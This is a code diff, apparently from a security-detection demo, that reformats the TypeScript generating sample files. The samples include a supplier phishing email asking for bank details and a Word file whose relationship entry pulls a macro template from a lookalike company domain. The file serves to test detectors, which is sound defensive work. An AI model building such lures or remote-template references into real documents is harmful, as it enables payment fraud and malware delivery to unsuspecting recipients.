@@ -10,7 +10,8 @@ const TYPES = {
 };
 const paragraph = (text: string) =>
   bytes(
-    `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>${text}</w:t></w:r></w:p></w:body></w:document>`,
+    '<w:document ' +
+      `xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>${text}</w:t></w:r></w:p></w:body></w:document>`,
   );
 /** Would show a message, were it ever opened; what it looks like is what the detectors judge. */
 const MACRO =
@@ -55,7 +56,10 @@ function driversChat(): Uint8Array {
   return bytes(lines.map((line) => (line === '' ? '' : `${day}, ${line}`)).join('\n'));
 }
 
-/** What a supplier got in the company's name and passed on: the link's words promise the company's site and lead elsewhere. */
+/**
+ * What a supplier got in the company's name and passed on: the link's words promise the company's
+ * site and lead elsewhere.
+ */
 const REMINDER = `<html><head><style>p { margin: 0 0 1em }</style></head><body>
 <p>Dear supplier,</p>
 <p>your account for deliveries to <b>Meridiana Foods</b> will be closed tomorrow. Confirm the bank details that we pay to:</p>
@@ -139,11 +143,16 @@ function form(): Uint8Array {
   const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
   const start = parts.join('').length;
   return bytes(
-    `${parts.join('')}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer\n<</Size ${objects.length + 1}/Root 1 0 R>>\nstartxref\n${start}\n%%EOF\n`,
+    `${parts.join('')}xref\n0 ${objects.length + 1}\n0000000000 65535 f ` +
+      `\n${table}trailer\n<</Size ${objects.length + 1}/Root 1 0 ` +
+      `R>>\nstartxref\n${start}\n%%EOF\n`,
   );
 }
 
-/** The files that lie on the share and that people upload, by the names of the data files. All of them are harmless. */
+/**
+ * The files that lie on the share and that people upload, by the names of the data files. All of
+ * them are harmless.
+ */
 export async function demoFiles(): Promise<ReadonlyMap<string, Uint8Array>> {
   const made = await makeFiles();
   const document = {
@@ -151,7 +160,10 @@ export async function demoFiles(): Promise<ReadonlyMap<string, Uint8Array>> {
     content: paragraph('Please find our invoice 88213 below. Meridiana Foods, accounts payable.'),
   };
   const relation = bytes(
-    '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://templates.meridianafoods-lodi-invoices.eu/t.dotm" TargetMode="External"/></Relationships>',
+    '<Relationships><Relationship Id="r1" ' +
+      'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" ' +
+      'Target="https://templates.meridianafoods-lodi-invoices.eu/t.dotm" ' +
+      'TargetMode="External"/></Relationships>',
   );
   return new Map<string, Uint8Array>([
     ['tasting.txt', bytes(TASTING)],
